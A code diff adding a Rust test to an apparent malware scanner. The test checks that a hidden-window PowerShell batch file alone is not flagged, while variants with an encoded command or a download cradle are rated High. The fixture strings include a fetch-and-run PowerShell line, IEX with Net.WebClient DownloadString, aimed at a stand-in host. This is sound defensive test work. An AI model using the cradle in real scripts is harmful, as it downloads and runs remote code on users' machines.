@@ -1417,3 +1417,23 @@ fn methods_of_one_name_keep_their_own_parameters() {
     assert_ne!(global, own);
     assert!(high(&global).contains(&"hidden-destination"), "{:?}", high(&global));
 }
+
+/// A hidden window is how a tool keeps a console from flashing (a message
+/// box shown by PowerShell after Revit closes); what makes a command
+/// hostile is what it runs: an encoded command or a download cradle, each
+/// a hostile fragment of its own. Written for the test.
+#[test]
+fn a_hidden_window_alone_is_not_a_hostile_command() {
+    let notice = "import os, tempfile\ndef write_updater(pid):\n    \
+                  batch = '\\r\\n'.join(['@echo off', 'powershell -NoProfile -WindowStyle Hidden -Command \"[System.Windows.MessageBox]::Show(\\'Done\\')\"'])\n    \
+                  with open(os.path.join(tempfile.gettempdir(), 'update_%d.bat' % pid), 'w') as f:\n        \
+                  f.write(batch)\n";
+    assert_eq!(severity_of("updater.py", notice, "script-dropper"), None);
+    let encoded = notice.replace("-Command", "-EncodedCommand SQBFAFgA");
+    assert_eq!(severity_of("updater.py", &encoded, "script-dropper"), Some(Severity::High));
+    let cradle = notice.replace(
+        "[System.Windows.MessageBox]::Show(\\'Done\\')",
+        "IEX (New-Object Net.WebClient).DownloadString(\\'https://x.example/a\\')",
+    );
+    assert_eq!(severity_of("updater.py", &cradle, "script-dropper"), Some(Severity::High));
+}
